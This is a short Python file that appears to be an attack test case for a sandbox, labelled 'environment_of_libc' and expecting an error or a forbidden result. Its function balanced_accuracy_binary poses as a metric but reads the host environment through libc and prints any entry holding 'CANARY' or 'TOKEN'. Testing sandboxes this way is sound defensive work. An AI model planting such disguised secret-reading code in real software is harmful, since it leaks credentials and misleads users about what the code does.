"""attack: environment_of_libc
kind: zygote_memory
expect: runtime_error, forbidden
Reads the environment as libc has it, for a secret of the host.
"""

import ctypes

libc = ctypes.CDLL(None)


def balanced_accuracy_binary(tp, tn, fp, fn, eps=1e-12):
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    at = 0
    while environ[at]:
        if b"CANARY" in environ[at] or b"TOKEN" in environ[at]:
            print(environ[at])
            return -1.0, -1.0, -1.0
        at += 1
    raise RuntimeError("no secret")
